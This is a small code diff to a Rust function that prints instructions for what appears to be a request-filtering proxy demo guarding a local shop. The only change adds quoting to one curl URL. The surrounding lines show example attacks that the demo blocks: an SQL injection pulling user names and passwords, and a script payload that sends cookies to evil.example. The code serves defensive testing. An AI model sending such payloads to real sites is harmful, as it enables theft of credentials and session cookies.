@@ -58,7 +58,7 @@ pub fn compile(port: u16, upstream: SocketAddr, options: &Options) -> Result<Com
 pub fn greeting(port: u16) -> String {
     format!(
         "\nThe demo shop is behind http://localhost:{port}/ now. Try, in another terminal:\n\
-         \n  a visit, which passes:\n    curl -i http://localhost:{port}/products?page=2\n\
+         \n  a visit, which passes:\n    curl -i \"http://localhost:{port}/products?page=2\"\n\
          \n  an SQL injection, which is blocked:\n    curl -i \"http://localhost:{port}/search?q=1%27%20UNION%20SELECT%20name,password%20FROM%20users--%20\"\n\
          \n  a script in a review, which is blocked:\n    curl -i http://localhost:{port}/reviews --data-urlencode \"review=<script>fetch('//evil.example/'+document.cookie)</script>\"\n\
          \nEach block is an event on stdout. Ctrl-C ends the demo.\n"
